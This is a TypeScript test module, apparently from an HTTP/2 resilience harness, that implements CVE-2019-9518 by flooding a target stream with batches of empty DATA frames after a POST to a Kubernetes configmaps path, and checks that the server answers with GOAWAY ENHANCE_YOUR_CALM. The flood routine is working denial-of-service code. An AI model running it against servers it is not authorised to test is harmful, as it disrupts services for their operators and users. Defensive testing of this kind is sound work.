// DATA frames without content.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9518',
  does: 'sends empty DATA frames',
  who: ['known', 'unknown'],
  answers: [
    '200',
    '401',
    '403',
    '413',
    'RST_STREAM NO_ERROR',
    'RST_STREAM CANCEL',
    'RST_STREAM STREAM_CLOSED',
    'RST_STREAM ENHANCE_YOUR_CALM',
  ],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const stream = connection.stream()
      const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
      const piece = Buffer.concat(new Array<Buffer>(200).fill(h2.data(stream, '')))
      const pieces = [post(stream)]
      return { next: () => pieces.shift() ?? piece }
    }),
}
